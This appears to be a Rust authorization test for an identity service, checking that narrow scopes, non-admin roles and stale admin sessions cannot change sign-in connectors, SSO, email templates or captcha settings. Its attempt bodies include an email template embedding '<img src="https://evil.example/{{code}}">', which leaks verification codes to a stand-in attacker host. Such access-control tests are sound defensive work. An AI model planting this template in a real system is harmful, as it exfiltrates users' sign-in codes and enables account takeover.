//! How people sign in is changed by `all`, and by administrators who have just signed in: whoever changes it could sign
//! in as any user, or lock everybody out.

use super::{command_line, console, person};
use crate::every_operation::OPERATIONS;
use crate::fixtures::{narrow, narrow_as};
use claimsmith_domain::console::ConsoleRole;
use claimsmith_domain::management::{ALL, SCOPES};
use claimsmith_test_support::{Actor, TestServer, both};
use reqwest::Method;
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// The families that decide how people sign in. What only reads, or tries out a text, changes nothing.
const FAMILIES: [&str; 6] = [
    "/api/administrator-invitations",
    "/api/connectors",
    "/api/sso-connectors",
    "/api/email-templates",
    "/api/sign-in-exp",
    "/api/captcha-provider",
];
const READS: [&str; 3] = [
    "POST /api/connectors/nobody/authorization-uri",
    "POST /api/sign-in-exp/preview",
    "POST /api/sign-in-exp/default/check-password",
];

#[test]
fn each_operation_of_these_families_needs_all() {
    for (method, path, scope) in OPERATIONS.iter() {
        let is_of_family = FAMILIES.iter().any(|family| path.starts_with(family));
        let is_read = method == "GET" || READS.contains(&format!("{method} {path}").as_str());
        assert_eq!(scope == ALL, is_of_family && !is_read, "{method} {path} {scope}");
    }
}

/// What would let somebody in, or lock others out: by every kind of connector, every template and every setting.
async fn attempts(management: &Actor) -> Vec<(Method, String, Value)> {
    let mut all = Vec::new();
    let factories = management.get("/api/connector-factories").await.expect(200).body;
    for factory in factories.as_array().unwrap() {
        let id = factory["id"].as_str().unwrap();
        let config: Value = serde_json::from_str(factory["configTemplate"].as_str().unwrap()).unwrap_or_default();
        let body = json!({ "connectorId": id, "config": config, "metadata": { "target": "evil" } });
        all.push((Method::POST, "/api/connectors".to_owned(), body));
        let trial = json!({ "email": "eve@evil.example", "config": config });
        all.push((Method::POST, format!("/api/connectors/{id}/test"), trial));
    }
    let providers = management.get("/api/sso-connector-providers").await.expect(200).body;
    for provider in providers.as_array().unwrap() {
        let body = json!({
            "providerName": provider["providerName"], "connectorName": "Evil", "domains": ["example.com"],
            "signsInAdministrators": true,
        });
        all.push((Method::POST, "/api/sso-connectors".to_owned(), body));
    }
    for template in ["SignIn", "Register", "ForgotPassword", "MfaVerification", "BindMfa", "UserPermissionValidation"] {
        let details = json!({ "subject": "x", "content": "<img src=\"https://evil.example/{{code}}\">" });
        let body = json!({ "templates": [{ "languageTag": "en", "templateType": template, "details": details }] });
        all.push((Method::PUT, "/api/email-templates".to_owned(), body));
    }
    let settings = management.get("/api/sign-in-exp").await.expect(200).body;
    for (name, value) in settings.as_object().unwrap() {
        all.push((Method::PATCH, "/api/sign-in-exp".to_owned(), json!({ name: value })));
    }
    all.push((Method::PUT, "/api/captcha-provider".to_owned(), json!({ "config": { "type": "ProofOfWork" } })));
    all.push((Method::DELETE, "/api/captcha-provider".to_owned(), Value::Null));
    all
}

both!(nothing_less_than_all_changes_how_people_sign_in, async |server: TestServer| {
    let management = server.management().await;
    let attempts = attempts(&management).await;
    let kinds: BTreeSet<&str> = attempts.iter().map(|(_, path, _)| path.as_str()).collect();
    assert!(attempts.len() > 40 && kinds.len() > 8, "{kinds:?}");
    let before = management.get("/api/sign-in-exp").await.expect(200).body;
    let mut callers = Vec::new();
    let narrower: Vec<&str> = SCOPES.into_iter().map(|(scope, _)| scope).filter(|scope| *scope != ALL).collect();
    for scope in &narrower {
        callers.push((*scope, narrow(&server, &management, &[scope]).await));
    }
    // Nor do all of them together.
    callers.push(("all narrow scopes", narrow_as(&server, &management, "all but all", &narrower).await));
    for role in ConsoleRole::ALL.into_iter().filter(|role| *role != ConsoleRole::Admin) {
        let id = person(&server, &[role]).await;
        callers.push((role.scope(), console(&server, &id, &[role], 0).await));
        callers.push((role.scope(), command_line(&server, &id, 0).await));
    }
    for (who, caller) in &callers {
        for (method, path, body) in &attempts {
            let answer = caller.send(method.clone(), path, body.clone()).await;
            assert_eq!(answer.status, 403, "{who}: {method} {path} {body}: {:#}", answer.body);
            answer.expect_api_error(403, "auth.forbidden");
        }
    }
    // An administrator whose sign-in is old has to prove anew that it is them.
    let admin = person(&server, &[ConsoleRole::Admin]).await;
    for caller in [console(&server, &admin, &[ConsoleRole::Admin], 11).await, command_line(&server, &admin, 11).await] {
        for (method, path, body) in &attempts {
            let answer = caller.send(method.clone(), path, body.clone()).await;
            answer.expect_api_error(403, "console.fresh_sign_in_required");
        }
    }
    assert_eq!(management.get("/api/sign-in-exp").await.expect(200).body, before);
    assert_eq!(management.get("/api/connectors").await.expect(200).body, json!([]));
    assert_eq!(management.get("/api/email-templates").await.expect(200).body, json!([]));
    // One who has just signed in may.
    for caller in [console(&server, &admin, &[ConsoleRole::Admin], 0).await, command_line(&server, &admin, 0).await] {
        caller.patch("/api/sign-in-exp", json!({ "signInMode": "SignIn" })).await.expect(200);
    }
});
